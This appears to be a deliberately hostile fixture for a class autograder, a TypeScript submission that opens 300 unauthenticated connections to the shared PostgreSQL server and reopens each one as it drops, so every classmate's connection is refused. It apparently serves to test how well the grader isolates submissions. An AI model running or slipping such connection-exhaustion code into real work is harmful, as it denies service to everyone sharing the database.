// @ts-nocheck
// Hostile, to the class's PostgreSQL: at import, fills every connection slot with connections that never log
// in (and opens another whenever the server drops one), then serves the reference's routes. On a server the
// class shared, every classmate's connection was refused ("too many clients").
// {{SOLUTION}}
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
const { postgres } = JSON.parse(readFileSync(process.env.GRADE_JOB, 'utf8'));
const hold = () => {
	const socket = connect(`${postgres.host}/.s.PGSQL.${postgres.port}`);
	socket.on('error', () => undefined);
	socket.on('close', () => setTimeout(hold, 10));
};
for (let n = 0; n < 300; n++) hold();
await new Promise((resolve) => setTimeout(resolve, 500));
